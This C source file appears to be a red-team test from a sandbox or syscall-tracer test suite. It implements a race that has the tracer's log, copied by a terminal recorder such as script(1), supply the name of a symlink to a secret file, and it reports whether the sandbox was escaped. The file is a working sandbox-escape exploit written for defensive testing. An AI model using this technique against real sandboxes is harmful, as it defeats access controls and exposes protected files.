/* tty_tail_open.c: log_tail_open.c (red team 55) where the log goes to a terminal that a
 * recorder copies into a file the program may read (red team 56).
 *
 * usage: tty_tail_open TYPESCRIPT SECRET TRIES      (cwd: a directory the program may write)
 *
 * `systrace -e` writes the log to stderr; red team 55's hold (Supervisor.writes_deciding)
 * takes a character device -- a terminal -- for a sink whose writes are no file's content.
 * But a terminal's master may copy every byte into a file: script(1), tmux pipe-pane, screen
 * -L, asciinema.  Under `script -f TYPESCRIPT -c "systrace -e ..."` each decision record the
 * tracer writes while it decides a call lands in TYPESCRIPT a few microseconds later (the
 * recorder's read of the master and its write): the same attack as log_tail_open.c, on the
 * typescript's last page, racing the recorder's copy against the kernel's read of the name.
 * The typescript is read after each change until it stops growing (the recorder copies
 * asynchronously).  The program makes the open as SCHED_IDLE (any user may ask it for
 * itself, and go back): resumed after its decision, it runs only once the recorder (and the
 * kworker that moves a pty's bytes to its master) have nothing left to do, so the copy
 * comes first.
 *
 * NATIVE=1 (the control): as log_tail_open.c's, TYPESCRIPT a plain file the program appends
 * the record's first bytes to itself.
 *
 * ESCAPED: an open gave the secret; BLOCKED: never.
 */
#include "attack.h"

#include <sched.h>

#include "log_tail.h"

#define TAIL 3    /* bytes of the log's text the name takes */
#define ROOM 12   /* the most of the next record's first bytes the window takes */

int main(int argc, char **argv) {
    settles = 1;  /* (the typescript is the recorder's copy) */
    struct log_tail t = log_tail_start(argc, argv);
    const char *secret = argv[2];
    int tries = atoi(argv[3]);
    int fd = t.fd;
    long page = t.page, a = t.a, c = t.c;
    char *area = t.area;
    int attempts = 0, decoys = 0;
    unsigned missed = 0;  /* pads since the last try: past 40, lengths of their own */
    for (unsigned n = 0; n < (unsigned)tries * 200 && attempts < tries; n++) {
        off_t size = log_size(fd);
        off_t used = size % page, room = page - used;
        if (used < TAIL || room > ROOM) {
            long need = room - ROOM / 2, len = MAX_PAD;
            if (need >= c + a * MIN_PAD && need <= c + a * MAX_PAD)
                len = (need - c) / a;
            else if (need < c + a * MIN_PAD)
                len = MIN_PAD + n % 7;
            if (++missed > 40)
                len = MIN_PAD + (n * 37) % (MAX_PAD - MIN_PAD);  /* (past the page's end: the next one) */
            pad((unsigned)len);
            continue;
        }
        char tail[TAIL + 1];
        if (pread(fd, tail, TAIL, size - TAIL) != TAIL)
            blocked("pread of the log: %s", ename(errno));
        tail[TAIL] = 0;
        if (memchr(tail, '/', TAIL) || strlen(tail) != TAIL || !strcmp(tail + 1, "..")) {
            pad(MIN_PAD + n % 7);
            continue;
        }
        /* the decoy at the tail's name; the symlink at the tail's name and the record's
         * first bytes, as many as the page has room for */
        char start[64], longer[64];
        record_start(start, sizeof start);
        snprintf(longer, sizeof longer, "%s%.*s", tail, (int)room, start);
        unlink(tail);
        unlink(longer);
        int decoy = open(tail, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        if (decoy < 0 || write(decoy, "decoy\n", 6) != 6)
            blocked("the decoy: %s", ename(errno));
        close(decoy);
        if (symlink(secret, longer) != 0)
            blocked("symlink: %s", ename(errno));
        if (log_size(fd) != size)  /* (a record of the decoy's create or the symlink) */
            continue;
        attempts++;
        missed = 0;
        if (mmap(area, page, PROT_READ, MAP_PRIVATE | MAP_FIXED, fd, size - used) == MAP_FAILED)
            blocked("mmap of the log: %s", ename(errno));
        if (native && write(logw, start, strlen(start)) != (ssize_t)strlen(start))
            blocked("write of the log: %s", ename(errno));
        struct sched_param param = {0};
        sched_setscheduler(0, SCHED_IDLE, &param);  /* (the recorder's copy first) */
        int got = open(area + used - TAIL, O_RDONLY | O_CLOEXEC);
        int err = errno;
        sched_setscheduler(0, SCHED_OTHER, &param);
        if (got >= 0) {
            char buf[256] = {0};
            ssize_t r = read(got, buf, sizeof buf - 1);
            close(got);
            if (r > 0 && strstr(buf, SECRET_MAGIC))
                escaped("read the secret through the log's last %d bytes and the first %d of"
                        " the open's own record (try %d)", TAIL, (int)room, attempts);
            decoys++;
        } else {
            note("try %d: open: %s", attempts, ename(err));
        }
        if (native && write(logw, "1}\n", 3) != 3)
            blocked("write of the log: %s", ename(errno));
        mmap(area, page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    }
    blocked("no open gave the secret (%d tries, %d the decoy)", attempts, decoys);
}
